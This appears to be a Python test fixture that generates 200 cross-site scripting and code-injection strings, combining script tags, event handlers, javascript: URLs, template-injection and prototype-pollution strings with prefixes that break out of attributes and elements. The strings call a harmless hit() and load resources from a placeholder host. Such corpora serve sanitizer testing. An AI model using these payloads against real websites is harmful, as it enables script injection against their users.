"""Two hundred texts that run `hit()` or ask for a file of another host where somebody takes them for markup or code."""

from __future__ import annotations

OUTSIDE = "http://example.invalid/"
_HIT = "hit()"

_MARKUP = (
    f"<script>{_HIT}</script>",
    f"<ScRiPt/x>{_HIT}</sCrIpT/x>",
    f"<script src={OUTSIDE}x.js></script>",
    f"<script type=module>{_HIT}</script>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<math><style><img src=x onerror={_HIT}></style></math>",
    f"<img src=x onerror={_HIT}>",
    f"<img/src/onerror={_HIT}>",
    f"<img src={OUTSIDE}x.png>",
    f"<svg onload={_HIT}>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s></svg>",
    f"<body onload={_HIT}>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_HIT}></iframe>",
    f"<iframe src={OUTSIDE}></iframe>",
    f"<object data=javascript:{_HIT}></object>",
    f"<object data={OUTSIDE}x.svg></object>",
    f"<embed src={OUTSIDE}x.swf>",
    f"<details open ontoggle={_HIT}>x</details>",
    f"<input autofocus onfocus={_HIT}>",
    f"<video><source onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}></audio>",
    f"<video poster={OUTSIDE}x.png></video>",
    f"<a href=javascript:{_HIT}>x</a>",
    f"<form action=javascript:{_HIT}><button>x</button></form>",
    f"<button formaction=javascript:{_HIT} autofocus>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_HIT}'>",
    f"<base href={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}x.css>",
    f"<link rel=prefetch href={OUTSIDE}x.html>",
    f"<style>@import '{OUTSIDE}x.css'</style>",
    f"<style>*{{background:url({OUTSIDE}x.gif)}}</style>",
    f"<p style=background:url({OUTSIDE}y.gif) onmouseover={_HIT}>x</p>",
    f"<template><script>{_HIT}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    f"<!--><img src=x onerror={_HIT}>-->",
    f"<![CDATA[><img src=x onerror={_HIT}>]]>",
    f"<x/onclick={_HIT}/tabindex=1/autofocus/onfocus={_HIT}>x",
)
_CODE = (
    f"javascript:{_HIT}",
    f"data:text/html,<script>parent.{_HIT}</script>",
    f"'-{_HIT}-'",
    f'"-{_HIT}-"',
    f"`${{{_HIT}}}`",
    f"\\';{_HIT}//",
    f'\\";{_HIT}//',
    f"}}}});{_HIT}//",
    f"{{{{constructor.constructor('{_HIT}')()}}}}",
    f"&lt;img src=x onerror={_HIT}&gt;",
    f"\\u003cimg src=x onerror={_HIT}\\u003e",
    "__proto__",
)
_BEFORE = ("", "\"'>", "</script></style></title></textarea>", "--></option></select>\u2028\u202e")
"""What ends an attribute, an element or a comment that the text may stand in."""

PAYLOADS = tuple(before + text for text in (*_MARKUP, *_CODE) for before in _BEFORE)
SAMPLE = PAYLOADS[::11]

WORDS = tuple(text.replace(" ", "/").replace("\u2028", "") for text in PAYLOADS)
"""The same without spaces, as entries of a vocabulary of words: a slash separates attributes, too."""
